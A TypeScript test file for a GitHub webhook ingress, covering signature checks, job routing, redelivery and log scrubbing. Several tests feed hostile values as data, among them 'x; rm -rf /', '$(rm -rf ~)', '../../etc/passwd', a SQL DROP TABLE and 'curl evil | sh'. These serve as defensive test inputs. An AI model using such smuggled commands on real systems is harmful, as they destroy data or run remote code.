// POST /webhooks/github through a real server and a real Redis: signatures (GitHub's own test
// vector, rotation, every way to get it wrong), real example payloads and the jobs they create,
// redelivery and concurrent copies, hostile values.
import { createHmac } from "node:crypto";
import { createRequire } from "node:module";
import { Writable } from "node:stream";
import type { WebhookDefinition } from "@octokit/webhooks-examples";
import { Registry } from "prom-client";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { secretValues } from "../core/config.ts";
import { createLogger, SecretScrubber } from "../core/logger.ts";
import { API_TOKEN, deliver, jobCount, signBody, startEdge, WEBHOOK_SECRET, type Edge } from "./edge-fixture.ts";
import { verifyGitHubSignature, WEBHOOK_BODY_LIMIT } from "./github-ingress.ts";
import { RedisPrHeadStore } from "./github-routing.ts";
import { buildHttpServer } from "./http-server.ts";
import { redisWriteBatcher } from "./redis-batch.ts";

const examples = createRequire(import.meta.url)("@octokit/webhooks-examples") as WebhookDefinition[];
const examplesOf = (name: string) => (examples.find((e) => e.name === name)?.examples ?? []) as unknown as Record<string, unknown>[];
const clone = <T>(v: T): T => structuredClone(v);

let edge: Edge;
beforeAll(async () => {
  edge = await startEdge({ label: "ingress" });
});
afterAll(async () => {
  await edge?.close();
});

interface Accepted {
  deliveryId: string;
  jobs: string[];
  ignored?: string;
}

async function accepted(res: Response): Promise<Accepted> {
  const text = await res.text();
  expect(res.status, text).toBe(202);
  return JSON.parse(text) as Accepted;
}

async function kindsOf(ids: string[]): Promise<{ kind: string; stack: string | null; data: Record<string, unknown> }[]> {
  const views = await Promise.all(ids.map((id) => edge.queue.getJobView(id)));
  return views.map((v) => {
    if (!v) throw new Error("job missing");
    return { kind: v.kind, stack: v.stack, data: v.data };
  });
}

describe("signature verification", () => {
  it("passes GitHub's documented test vector", async () => {
    expect(
      await verifyGitHubSignature(["It's a Secret to Everybody"], "Hello, World!", "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17"),
    ).toBe(true);
    // Rotation: the matching secret may be any of the configured ones.
    expect(
      await verifyGitHubSignature(
        ["new-secret", "It's a Secret to Everybody"],
        "Hello, World!",
        "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17",
      ),
    ).toBe(true);
    expect(
      await verifyGitHubSignature(["It's a Secret to Everybody"], "Hello, World?", "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17"),
    ).toBe(false);
  });

  it("through the server, the test vector gets past the signature check (and then fails as non-JSON)", async () => {
    const vectorEdge = await startEdge({ label: "vector", env: { GITHUB_WEBHOOK_SECRET: "It's a Secret to Everybody" } });
    try {
      const res = await deliver(vectorEdge, "Hello, World!", {
        event: "ping",
        signature: "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17",
      });
      expect(res.status).toBe(400);
      expect(await res.json()).toMatchObject({ field: "body" });
      const bad = await deliver(vectorEdge, "Hello, World!", { event: "ping", secret: "It's not the secret" });
      expect(bad.status).toBe(401);
      expect(await jobCount(vectorEdge)).toBe(0);
    } finally {
      await vectorEdge.close();
    }
  });

  it("accepts a delivery signed with any of the rotated secrets", async () => {
    const body = JSON.stringify(examplesOf("ping")[0]);
    expect((await deliver(edge, body, { event: "ping", secret: "old-rotated-secret" })).status).toBe(202);
    expect((await deliver(edge, body, { event: "ping" })).status).toBe(202);
  });

  it("refuses wrong secret, truncated signature, missing header, oversized body and broken JSON, enqueuing nothing", async () => {
    const before = await jobCount(edge);
    const pr = clone(examplesOf("pull_request").find((p) => p.action === "opened"));
    const body = JSON.stringify(pr);
    const good = await signBody(WEBHOOK_SECRET, body);

    expect((await deliver(edge, body, { event: "pull_request", secret: "wrong-secret" })).status).toBe(401);
    expect((await deliver(edge, body, { event: "pull_request", signature: good.slice(0, -2) })).status).toBe(401);
    expect((await deliver(edge, body, { event: "pull_request", signature: good.replace("sha256=", "sha1=") })).status).toBe(401);
    expect((await deliver(edge, body, { event: "pull_request", signature: null })).status).toBe(401);
    // Signed, but the body was changed on the way.
    expect((await deliver(edge, body.replace('"opened"', '"closed"'), { event: "pull_request", signature: good })).status).toBe(401);

    const broken = '{"action": "opened", "pull_request": ';
    const brokenRes = await deliver(edge, broken, { event: "pull_request" });
    expect(brokenRes.status).toBe(400);
    expect(await brokenRes.json()).toMatchObject({ field: "body" });

    // Over 25 MiB: refused with 413 without the server reading it all.
    const huge = Buffer.alloc(WEBHOOK_BODY_LIMIT + 1024, 0x20);
    const hugeRes = await deliver(edge, huge, { event: "pull_request", signature: "sha256=" + "0".repeat(64) });
    expect(hugeRes.status).toBe(413);

    // Headers GitHub always sends, malformed.
    const badDelivery = await deliver(edge, body, { event: "pull_request", deliveryId: "../../etc/passwd" });
    expect(badDelivery.status).toBe(400);
    expect(await badDelivery.json()).toMatchObject({ field: "X-GitHub-Delivery" });

    expect(await jobCount(edge)).toBe(before);
  });

  it("refuses a signed body that is not UTF-8, or starts with a byte-order mark, with 400 naming the body, enqueuing nothing", async () => {
    const before = await jobCount(edge);
    const signed = (bytes: Buffer) => `sha256=${createHmac("sha256", WEBHOOK_SECRET).update(bytes).digest("hex")}`;
    const post = (bytes: Buffer) =>
      fetch(`${edge.url}/webhooks/github`, {
        method: "POST",
        headers: {
          "content-type": "application/json",
          "x-github-event": "ping",
          "x-github-delivery": crypto.randomUUID(),
          "x-hub-signature-256": signed(bytes),
        },
        body: bytes,
      });
    // A lone 0xff, and a truncated two-byte sequence, inside a JSON string: never decoded to U+FFFD.
    for (const bad of [Buffer.from([0xff]), Buffer.from([0xc3])]) {
      const res = await post(Buffer.concat([Buffer.from('{"zen":"'), bad, Buffer.from('","hook_id":1}')]));
      expect(res.status).toBe(400);
      expect(await res.json()).toMatchObject({ error: "invalid", field: "body" });
    }
    const bom = await post(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JSON.stringify(examplesOf("ping")[0]))]));
    expect(bom.status).toBe(400);
    expect(await bom.json()).toMatchObject({ field: "body" });
    // The same bytes as valid UTF-8 are accepted: multi-byte characters are decoded, not refused.
    const ok = await post(Buffer.from(JSON.stringify({ ...examplesOf("ping")[0], zen: "Ünïcødé ✓ 🚀" })));
    expect(ok.status).toBe(202);
    expect(await jobCount(edge)).toBe(before);
  });

  it("verifies, routes and deduplicates a body that arrives in many chunks like one that arrives in one", async () => {
    const pr = clone(examplesOf("pull_request").find((p) => p.action === "synchronize"))!;
    const pull = pr.pull_request as { number: number; head: { sha: string }; body: string | null };
    pull.number = 4346;
    pull.head.sha = "f".repeat(40);
    pull.body = "é".repeat(400_000); // ~800 KB: many socket reads; a two-byte character split between chunks
    const body = JSON.stringify(pr);
    const first = await accepted(await deliver(edge, body, { event: "pull_request" }));
    expect(first.jobs).toHaveLength(1);
    const [job] = await kindsOf(first.jobs);
    expect(job).toMatchObject({ kind: "preview.up", stack: "preview-hello-world-pr-4346", data: { headSha: "f".repeat(40) } });
    const replay = (await accepted(await deliver(edge, body, { event: "pull_request" }))) as Accepted & { duplicateOf?: string };
    expect(replay.duplicateOf).toBe(first.deliveryId);
    expect(replay.jobs).toEqual(first.jobs);
  });

  it("refuses every delivery when no secret is configured", async () => {
    const open = await startEdge({ label: "nosecret", env: { GITHUB_WEBHOOK_SECRET: "" } });
    try {
      const body = JSON.stringify(examplesOf("ping")[0]);
      const res = await deliver(open, body, { event: "ping", secret: "anything" });
      expect(res.status).toBe(401);
      expect(await jobCount(open)).toBe(0);
    } finally {
      await open.close();
    }
  });
});

describe("routing of real example payloads", () => {
  it("replays every pull_request, push, release, issue_comment and ping example and creates the expected jobs", async () => {
    const expectations: [string, Record<string, unknown>, string[]][] = [];
    for (const p of examplesOf("pull_request")) {
      const action = p.action as string;
      const kinds = ["opened", "reopened", "synchronize"].includes(action) ? ["preview.up"] : action === "closed" ? ["preview.destroy"] : [];
      expectations.push(["pull_request", p, kinds]);
    }
    // The examples push README.md or tags: not deployable with the default path filters.
    for (const p of examplesOf("push")) expectations.push(["push", p, []]);
    for (const p of examplesOf("release")) {
      const rel = p.release as { prerelease: boolean; draft: boolean };
      expectations.push(["release", p, p.action === "published" && !rel.prerelease && !rel.draft ? ["release.rollout"] : []]);
    }
    // The examples comment on issues, not pull requests, and carry no command.
    for (const p of examplesOf("issue_comment")) expectations.push(["issue_comment", p, []]);
    for (const p of examplesOf("ping")) expectations.push(["ping", p, []]);
    expect(expectations.length).toBeGreaterThan(50);

    for (const [event, payload, kinds] of expectations) {
      const res = await accepted(await deliver(edge, JSON.stringify(payload), { event }));
      const jobs = await kindsOf(res.jobs);
      expect(
        jobs.map((j) => j.kind),
        `${event} ${String(payload.action)}`,
      ).toEqual(kinds);
      for (const j of jobs) {
        if (j.kind.startsWith("preview.")) {
          expect(j.stack).toBe("preview-hello-world-pr-2");
          expect(j.data).toMatchObject({ repo: { owner: "Codertocat", name: "Hello-World" }, pr: 2, headSha: "ec26c3e57ca3a959ca5aad62de7213c562f8c821" });
        }
        if (j.kind === "release.rollout") expect(j.data).toMatchObject({ version: "0.0.1", ref: "refs/tags/0.0.1" });
      }
      if (kinds.length === 0 && event !== "ping") expect(typeof res.ignored).toBe("string");
    }
  });

  it("rolls out a push to the default branch that touches deployable paths, and nothing else", async () => {
    const base = clone(examplesOf("push").find((p) => p.ref === "refs/heads/master" && (p.commits as unknown[]).length > 0));
    if (!base) throw new Error("no branch push example");
    const withFiles = (files: string[], ref = "refs/heads/master") => {
      const p = clone(base);
      p.ref = ref;
      (p.commits as { added: string[]; modified: string[]; removed: string[] }[])[0] = {
        ...((p.commits as object[])[0] as object),
        added: [],
        modified: files,
        removed: [],
      };
      return JSON.stringify(p);
    };
    const deploy = await accepted(await deliver(edge, withFiles(["src/server/index.ts"]), { event: "push" }));
    const [job] = await kindsOf(deploy.jobs);
    expect(job).toMatchObject({ kind: "release.rollout", stack: "releases", data: { version: base.after, ref: "refs/heads/master" } });

    expect((await accepted(await deliver(edge, withFiles(["Dockerfile"]), { event: "push" }))).jobs).toHaveLength(1);
    expect((await accepted(await deliver(edge, withFiles(["charts/app/values.yaml"]), { event: "push" }))).jobs).toHaveLength(1);
    expect((await accepted(await deliver(edge, withFiles(["docs/readme.md", "srcx/a.ts"]), { event: "push" }))).jobs).toHaveLength(0);
    // Another branch, even touching src/: nothing. A hostile branch name is only compared, never used.
    const other = await accepted(await deliver(edge, withFiles(["src/a.ts"], "refs/heads/feature/$(rm -rf ~)/../../x"), { event: "push" }));
    expect(other.jobs).toHaveLength(0);
  });

  it("never runs a fork pull request automatically; a maintainer's /stackrail preview runs it at the head seen last", async () => {
    const pr = clone(examplesOf("pull_request").find((p) => p.action === "opened"))!;
    const pull = pr.pull_request as { number: number; head: { sha: string; repo: { full_name: string } } };
    pull.number = 41;
    pull.head.repo.full_name = "mallory/Hello-World";
    pull.head.sha = "a".repeat(40);
    const res = await accepted(await deliver(edge, JSON.stringify(pr), { event: "pull_request" }));
    expect(res.jobs).toEqual([]);
    expect(res.ignored).toBe("fork pull request waits for /stackrail preview");

    const comment = (body: string, association: string, login = "maintainer") => {
      const c = clone(examplesOf("issue_comment").find((p) => p.action === "created"))!;
      const issue = c.issue as Record<string, unknown>;
      issue.number = 41;
      issue.pull_request = { url: "https://api.github.com/repos/Codertocat/Hello-World/pulls/41" };
      c.comment = { ...(c.comment as object), body, author_association: association, user: { login, type: "User" } };
      return JSON.stringify(c);
    };
    const outsider = await accepted(await deliver(edge, comment("/stackrail preview", "CONTRIBUTOR", "mallory"), { event: "issue_comment" }));
    const [refusal] = await kindsOf(outsider.jobs);
    expect(refusal).toMatchObject({ kind: "comment.refusal", stack: null, data: { pr: 41 } });

    const approved = await accepted(await deliver(edge, comment("Looks fine.\n/stackrail preview\n", "MEMBER"), { event: "issue_comment" }));
    const [up] = await kindsOf(approved.jobs);
    expect(up).toMatchObject({ kind: "preview.up", stack: "preview-hello-world-pr-41", data: { headSha: "a".repeat(40), pr: 41 } });

    const destroy = await accepted(await deliver(edge, comment("/stackrail destroy", "OWNER"), { event: "issue_comment" }));
    expect((await kindsOf(destroy.jobs)).map((j) => j.kind)).toEqual(["preview.destroy"]);

    // Talking about the command is not the command.
    const mention = await accepted(await deliver(edge, comment("please run `/stackrail preview` later", "OWNER"), { event: "issue_comment" }));
    expect(mention.jobs).toEqual([]);
  });
});

describe("content types", () => {
  it("verifies and routes form-encoded deliveries and ones without a content type", async () => {
    const pr = clone(examplesOf("pull_request").find((p) => p.action === "closed"))!;
    (pr.pull_request as { number: number }).number = 314;
    const json = JSON.stringify(pr);
    const form = `payload=${encodeURIComponent(json)}`;
    const formRes = await accepted(await deliver(edge, form, { event: "pull_request", contentType: "application/x-www-form-urlencoded" }));
    expect((await kindsOf(formRes.jobs)).map((j) => j.stack)).toEqual(["preview-hello-world-pr-314"]);

    const { request } = await import("node:http");
    const signature = await signBody(WEBHOOK_SECRET, json);
    const status = await new Promise<number>((resolve, reject) => {
      const req = request(
        `${edge.url}/webhooks/github`,
        {
          method: "POST",
          headers: {
            "x-github-event": "pull_request",
            "x-github-delivery": crypto.randomUUID(),
            "x-hub-signature-256": signature,
            "content-length": Buffer.byteLength(json),
          },
        },
        (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        },
      );
      req.on("error", reject);
      req.end(json);
    });
    expect(status).toBe(202);
  });
});

describe("redelivery", () => {
  it("answers a redelivery with the original job ids and enqueues nothing more", async () => {
    const pr = clone(examplesOf("pull_request").find((p) => p.action === "closed"))!;
    const deliveryId = crypto.randomUUID();
    const first = await accepted(await deliver(edge, JSON.stringify(pr), { event: "pull_request", deliveryId }));
    const before = await jobCount(edge);
    const again = await accepted(await deliver(edge, JSON.stringify(pr), { event: "pull_request", deliveryId }));
    expect(again).toEqual(first);
    expect(await jobCount(edge)).toBe(before);
  });

  it("redoes a delivery whose stored answer was lost with the same job ids, duplicating no job and no lane entry", async () => {
    // The answer is stored after the 202, in the background; this is what a lost store looks like.
    const pr = clone(examplesOf("pull_request").find((p) => p.action === "synchronize"))!;
    (pr.pull_request as { number: number }).number = 4242;
    const body = JSON.stringify(pr);
    const deliveryId = crypto.randomUUID();
    const first = await accepted(await deliver(edge, body, { event: "pull_request", deliveryId }));
    expect(first.jobs).toHaveLength(1);
    const before = await jobCount(edge);
    const key = `${edge.prefix}:delivery:${deliveryId}`;
    expect(await edge.redis.get(key)).toMatch(/^done:/);
    await edge.redis.del(key);
    const again = await accepted(await deliver(edge, body, { event: "pull_request", deliveryId }));
    expect(again).toEqual(first);
    expect(await jobCount(edge)).toBe(before);
    const stack = (await edge.queue.getJobView(first.jobs[0]!))?.stack;
    const lane = await edge.redis.lrange(`${edge.prefix}:lane:${stack ?? "?"}`, 0, -1);
    expect(lane.filter((id) => id === first.jobs[0])).toHaveLength(1);
  });

  it("50 concurrent copies of one delivery create exactly one set of jobs", async () => {
    const pr = clone(examplesOf("pull_request").find((p) => p.action === "synchronize"))!;
    (pr.pull_request as { number: number }).number = 77;
    const body = JSON.stringify(pr);
    const deliveryId = crypto.randomUUID();
    const before = await jobCount(edge);
    const answers = await Promise.all(Array.from({ length: 50 }, () => deliver(edge, body, { event: "pull_request", deliveryId })));
    const bodies = await Promise.all(answers.map((r) => accepted(r)));
    const ids = new Set(bodies.map((b) => JSON.stringify(b.jobs)));
    expect(ids.size).toBe(1);
    expect(bodies[0]?.jobs).toHaveLength(1);
    expect(await jobCount(edge)).toBe(before + 1);
  });
});

describe("what the claim's round trip carries (issue 19)", () => {
  const synchronize = (pr: number, sha: string) => {
    const body = clone(examplesOf("pull_request").find((p) => p.action === "synchronize"))!;
    const pull = body.pull_request as { number: number; head: { sha: string } };
    pull.number = pr;
    pull.head.sha = sha;
    return JSON.stringify(body);
  };
  const repo = { owner: "Codertocat", name: "Hello-World" };

  it("records a PR head only for the delivery that claims it: a redelivered or replayed old head never moves it back", async () => {
    const heads = new RedisPrHeadStore(edge.redis, edge.prefix);
    const old = synchronize(4343, "a".repeat(40));
    const oldId = crypto.randomUUID();
    const first = await accepted(await deliver(edge, old, { event: "pull_request", deliveryId: oldId }));
    expect((await heads.get(repo, 4343))?.sha).toBe("a".repeat(40));
    await accepted(await deliver(edge, synchronize(4343, "b".repeat(40)), { event: "pull_request" }));
    expect((await heads.get(repo, 4343))?.sha).toBe("b".repeat(40));

    expect(await accepted(await deliver(edge, old, { event: "pull_request", deliveryId: oldId }))).toEqual(first);
    const replayed = (await accepted(await deliver(edge, old, { event: "pull_request" }))) as Accepted & { duplicateOf?: string };
    expect(replayed.duplicateOf).toBe(oldId);
    expect(replayed.jobs).toEqual(first.jobs);
    expect((await heads.get(repo, 4343))?.sha).toBe("b".repeat(40));
  });

  it("answers 202 only once the job is in BullMQ and in its lane; a newer head supersedes it after the answer", async () => {
    const stack = "preview-hello-world-pr-4344";
    const older = await accepted(await deliver(edge, synchronize(4344, "c".repeat(40)), { event: "pull_request" }));
    const [olderJob] = older.jobs;
    expect(await edge.redis.lrange(`${edge.prefix}:lane:${stack}`, 0, -1)).toEqual([olderJob]);
    expect(await edge.queue.getJobView(olderJob!)).toMatchObject({ state: "waiting", stack, data: { headSha: "c".repeat(40) } });

    const newer = await accepted(await deliver(edge, synchronize(4344, "d".repeat(40)), { event: "pull_request" }));
    const [newerJob] = newer.jobs;
    expect(await edge.queue.getJobView(newerJob!)).toMatchObject({ state: "waiting", stack });
    for (let i = 0; (await edge.queue.getJobView(olderJob!))?.state !== "superseded"; i++) {
      if (i > 200) throw new Error("the older preview was never superseded");
      await new Promise((r) => setTimeout(r, 10));
    }
    expect(await edge.queue.getJobView(olderJob!)).toMatchObject({ state: "superseded", supersededBy: newerJob });
    expect(await edge.redis.lrange(`${edge.prefix}:lane:${stack}`, 0, -1)).toEqual([newerJob]);
  });

  it("50 concurrent copies of one body under different delivery ids register one lane entry and one job", async () => {
    const body = synchronize(4345, "e".repeat(40));
    const before = await jobCount(edge);
    const answers = await Promise.all(Array.from({ length: 50 }, () => deliver(edge, body, { event: "pull_request" })));
    const bodies = (await Promise.all(answers.map((r) => accepted(r)))) as (Accepted & { duplicateOf?: string })[];
    expect(new Set(bodies.map((b) => JSON.stringify(b.jobs))).size).toBe(1);
    expect(bodies.filter((b) => b.duplicateOf === undefined)).toHaveLength(1);
    expect(await jobCount(edge)).toBe(before + 1);
    expect(await edge.redis.lrange(`${edge.prefix}:lane:preview-hello-world-pr-4345`, 0, -1)).toEqual(bodies[0]?.jobs);
  });

  it("sends the Redis commands of one event-loop turn in one write, answering each in order", async () => {
    const batch = redisWriteBatcher(edge.redis);
    const key = `${edge.prefix}:batch-counter`;
    batch();
    expect(edge.redis.stream.writableCorked).toBe(1);
    batch(); // once per turn
    expect(edge.redis.stream.writableCorked).toBe(1);
    const replies = await Promise.all(Array.from({ length: 20 }, () => edge.redis.incr(key)));
    expect(replies).toEqual(Array.from({ length: 20 }, (_, i) => i + 1));
    expect(edge.redis.stream.writableCorked).toBe(0);
  });
});

describe("logs (issue 19)", () => {
  it("writes one line per delivery, the handler's, with the secret scrubbed; no Fastify request lines for the route, and still for others", async () => {
    const lines: Record<string, unknown>[] = [];
    const destination = new Writable({
      write(chunk: Buffer, _enc, done) {
        for (const line of chunk.toString("utf8").split("\n")) if (line) lines.push(JSON.parse(line) as Record<string, unknown>);
        done();
      },
    });
    const scrubber = new SecretScrubber();
    scrubber.add(...secretValues(edge.config));
    const app = await buildHttpServer({
      config: edge.config,
      logger: createLogger({ level: "info", scrubber, destination }),
      queue: edge.queue,
      redis: edge.redis,
      registry: new Registry(),
      readiness: () => Promise.resolve({ redis: true, engine: true }),
    });
    const url = await app.listen({ host: "127.0.0.1", port: 0 });
    try {
      const logged = { ...edge, url };
      const synchronize = (sha: string) => {
        const body = clone(examplesOf("pull_request").find((p) => p.action === "synchronize"))!;
        const pull = body.pull_request as { number: number; head: { sha: string }; title: string };
        pull.number = 4347;
        pull.head.sha = sha;
        pull.title = `leaks ${WEBHOOK_SECRET}?`;
        return JSON.stringify(body);
      };
      const first = await accepted(await deliver(logged, synchronize("1".repeat(40)), { event: "pull_request" }));
      const second = await accepted(await deliver(logged, synchronize("2".repeat(40)), { event: "pull_request" }));
      // The second supersedes the first after its answer: wait for that before reading the lines.
      for (let i = 0; (await edge.queue.getJobView(first.jobs[0]!))?.state !== "superseded"; i++) {
        if (i > 200) throw new Error("the older preview was never superseded");
        await new Promise((r) => setTimeout(r, 10));
      }
      expect((await fetch(`${url}/healthz`)).status).toBe(200);
      await new Promise((r) => setTimeout(r, 50));

      for (const answer of [first, second]) {
        const about = lines.filter((l) => l.deliveryId === answer.deliveryId);
        expect(about.map((l) => l.msg)).toEqual(["webhook delivery accepted"]);
        expect(about[0]).toMatchObject({ event: "pull_request", jobIds: answer.jobs, redelivery: false });
      }
      // The supersede is in the job's record (and the worker's log), not an info line per delivery.
      expect(lines.filter((l) => l.msg === "job superseded by a newer preview")).toEqual([]);
      expect(lines.filter((l) => (l.req as { url?: string } | undefined)?.url === "/webhooks/github")).toEqual([]);
      expect(lines.filter((l) => l.msg === "request completed" && l.responseTime !== undefined)).toHaveLength(1); // /healthz
      expect(JSON.stringify(lines)).not.toContain(WEBHOOK_SECRET);
    } finally {
      await app.close();
    }
  });
});

describe("hostile values", () => {
  it("refuses hostile repository names and SHAs with 400, and carries a hostile title as inert data", async () => {
    const base = examplesOf("pull_request").find((p) => p.action === "opened")!;
    const before = await jobCount(edge);
    for (const name of ["../x", "a/../../etc", "x; rm -rf /", "$(id)", "ünïcødé", "x".repeat(500), "..", "---"]) {
      const pr = clone(base);
      (pr.repository as { name: string }).name = name;
      const res = await deliver(edge, JSON.stringify(pr), { event: "pull_request" });
      expect(res.status, name).toBe(400);
      expect(await res.json()).toMatchObject({ field: "repository.name" });
    }
    const badSha = clone(base);
    (badSha.pull_request as { head: { sha: string } }).head.sha = "../../../../etc/passwd";
    const shaRes = await deliver(edge, JSON.stringify(badSha), { event: "pull_request" });
    expect(shaRes.status).toBe(400);
    expect(await shaRes.json()).toMatchObject({ field: "pull_request.head.sha" });
    expect(await jobCount(edge)).toBe(before);

    const hostileTitle = `"; DROP TABLE tenants; -- $(curl evil) ../../x \u202e\u0000 ${"é".repeat(3000)}`;
    const titled = clone(base);
    (titled.pull_request as { title: string; number: number }).title = hostileTitle;
    (titled.pull_request as { number: number }).number = 99;
    const ok = await accepted(await deliver(edge, JSON.stringify(titled), { event: "pull_request" }));
    const [job] = await kindsOf(ok.jobs);
    expect(job?.stack).toBe("preview-hello-world-pr-99");
    expect(job?.data.title).toBe(hostileTitle.slice(0, 1024));
  });

  it("does not roll out a release whose tag is not a version", async () => {
    const rel = clone(examplesOf("release").find((p) => p.action === "published"))!;
    (rel.release as { tag_name: string }).tag_name = "v1.2.3; curl evil | sh";
    const res = await accepted(await deliver(edge, JSON.stringify(rel), { event: "release" }));
    expect(res.jobs).toEqual([]);
  });
});

describe("metrics", () => {
  it("counts deliveries by outcome", async () => {
    const res = await fetch(`${edge.url}/metrics`, { headers: { authorization: `Bearer ${API_TOKEN}` } });
    const text = await res.text();
    expect(text).toMatch(/stackrail_webhook_deliveries_total\{event="pull_request",outcome="accepted"\} \d+/);
    expect(text).toMatch(/stackrail_webhook_deliveries_total\{event="unknown",outcome="unauthorized"\} \d+/);
  });
});
